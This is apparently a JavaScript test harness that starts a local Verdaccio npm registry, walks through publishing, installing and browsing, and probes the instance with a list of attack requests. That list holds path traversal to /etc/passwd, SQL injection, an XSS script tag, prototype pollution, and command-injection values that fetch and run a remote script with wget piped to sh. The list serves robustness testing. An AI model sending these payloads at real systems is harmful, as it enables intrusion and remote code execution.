// Verdaccio: an npm registry, used by npm and in the browser.
import { execFile } from 'node:child_process'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { free } from './stage.mjs'
import { settled } from './state.mjs'
import { languages, markdown, python, random, script, shell, sql, tagged, tutorial } from './texts.mjs'

const here = dirname(fileURLToPath(import.meta.url))

async function npm(user, cwd, ...args) {
  const config = join(user.dir, 'npmrc')
  const { stdout } = await promisify(execFile)('npm', [...args, '--registry', `${user.origin}/`, '--userconfig', config, '--cache', join(user.dir, 'cache'),
    '--no-audit', '--no-fund', '--no-update-notifier', '--fetch-retries', '0'], { cwd, env: { ...process.env, NPM_CONFIG_LOGLEVEL: 'error' } })
  return stdout
}

// publish writes a package and publishes it.
async function publish(user, manifest, files) {
  const dir = join(user.dir, manifest.name.replace('/', '-') + manifest.version)
  for (const [name, content] of Object.entries({ 'package.json': JSON.stringify(manifest, null, 2), ...files })) {
    await mkdir(dirname(join(dir, name)), { recursive: true })
    await writeFile(join(dir, name), content)
  }
  await npm(user, dir, 'publish', '--access', 'public', '--tag', manifest.version.includes('-') ? 'next' : 'latest')
}

async function account(user) {
  const res = await user.fetch('/-/user/org.couchdb.user:jane', { method: 'PUT', headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ _id: 'org.couchdb.user:jane', name: 'jane', password: "it's; a 'long' --secret", type: 'user', roles: [], date: '2026-03-01T08:00:00.000Z' }) })
  const { token } = await res.json()
  await writeFile(join(user.dir, 'npmrc'), `//127.0.0.1:${new URL(user.origin).port}/:_authToken=${token}\n`)
  if ((await npm(user, user.dir, 'whoami')).trim() !== 'jane') throw new Error('npm is somebody else')
  await publish(user, { name: 'count-words', version: '1.0.0', description: languages.fr, keywords: ['words', "c'est", '#1'], license: 'MIT', main: 'index.js', author: "Pat O'Brien <pat@example.org>" },
    { 'index.js': 'module.exports = (s) => s.split(/\\s+/).filter(Boolean).length\n', 'README.md': `# count-words\n\n${languages.de}\n\n${languages.ja}\n` })
}

async function code(user) {
  await publish(user, { name: '@jane/notes', version: '0.1.0', description: 'Notes -- "quoted" & <tagged>', license: 'MIT', bin: { notes: 'bin/notes.sh' },
    scripts: { test: 'node --test && echo "ok" || exit 1', build: 'rm -rf dist && tsc -p . && cp src/*.css dist/' }, dependencies: { 'count-words': '>=1.0.0 <2 || ^3' } },
  { 'README.md': markdown, 'bin/notes.sh': `#!/bin/sh\n${shell}`, 'page.html': script, 'schema.sql': sql, 'tool.py': python, 'noise.bin': random(200_000) })
}

const page = (user) => publish(user, { name: '@jane/notes', version: '0.2.0-beta.1', description: 'Notes', license: 'MIT' }, { 'README.md': tutorial })

async function use(user) {
  const dir = join(user.dir, 'project')
  await mkdir(dir)
  await writeFile(join(dir, 'package.json'), '{"name":"project","version":"1.0.0","private":true}')
  await npm(user, dir, 'install', '@jane/notes@0.1.0')
  if (!(await readFile(join(dir, 'node_modules/@jane/notes/noise.bin'))).equals(random(200_000))) throw new Error('the installed file differs')
  await npm(user, dir, 'view', '@jane/notes', 'versions', '--json')
  await npm(user, dir, 'outdated').catch(() => {}) // it exits with 1 when there is something to tell
  await npm(user, dir, 'search', "words c'est").catch(() => {})
  await npm(user, dir, 'dist-tag', 'add', '@jane/notes@0.1.0', 'stable')
  await npm(user, dir, 'deprecate', 'count-words@1.0.0', "Don't use; it's \"old\" -- take @jane/notes > 0.1 instead")
}

async function browse(user) {
  const page = await user.page()
  await page.goto('/')
  await page.getByText('@jane/notes').first().click()
  await page.getByText('Release notes').first().waitFor()
  await page.locator('input[placeholder*="earch"]').first().pressSequentially('count-w', { delay: 20 })
  await page.getByText('count-words').first().waitFor()
}

export default {
  name: 'verdaccio',
  needs: {},

  async start(stage) {
    const port = await free()
    const config = join(stage.dir, 'verdaccio.json')
    await writeFile(config, JSON.stringify({
      storage: join(stage.dir, 'storage'), web: { title: "Jane's registry" }, auth: { htpasswd: { file: join(stage.dir, 'htpasswd'), max_users: 10 } },
      uplinks: {}, packages: { '**': { access: '$all', publish: '$authenticated', unpublish: '$authenticated' } },
      log: { type: 'stdout', format: 'pretty', level: 'warn' },
    }))
    await stage.start(process.execPath, [join(here, 'node_modules/verdaccio/bin/verdaccio'), '--config', config, '--listen', `127.0.0.1:${port}`], { port })
    return { port }
  },

  journeys: [
    { name: 'an account and a first package', walk: account },
    { name: 'packages with code', walk: code, hard: true },
    { name: 'npm install, view, search, dist-tag', walk: use },
    { name: 'the pages', walk: browse },
    { name: 'a page with a script in a README', walk: page, hard: true, known: tagged },
  ],

  async state(user) {
    const held = []
    for (const name of ['count-words', '@jane%2fnotes']) {
      const res = await fetch(`http://127.0.0.1:${user.app.port}/${name}`, { headers: { Host: new URL(user.origin).host } })
      const { time, _rev, ...manifest } = await res.json()
      held.push(manifest)
    }
    return settled(JSON.stringify(held).replaceAll(`127.0.0.1:${user.app.port}`, '<host>').replaceAll(new URL(user.origin).host, '<host>').replace(/"_id":"[^"]*"|"_nodeVersion":"[^"]*"/g, ''))
  },

  attacks: [
    { target: '/-/static/..%2f..%2f..%2f..%2fetc%2fpasswd' },
    { target: `/-/v1/search?text=${encodeURIComponent("' UNION SELECT password FROM users-- ")}` },
    { target: `/-/web/detail/x?v=${encodeURIComponent('"><script>alert(1)</script>')}` },
    { target: `/count-words?write=${encodeURIComponent('`wget http://203.0.113.7/x -O- | sh`')}` },
    { target: `/count-words?write=${encodeURIComponent('; wget http://203.0.113.7/x -O- | sh')}` },
    { method: 'PUT', target: '/-/user/org.couchdb.user:x', headers: { 'Content-Type': 'application/json' }, body: '{"name":{"$ne":null},"password":{"$gt":""},"constructor":{"prototype":{"admin":true}}}' },
  ],
}
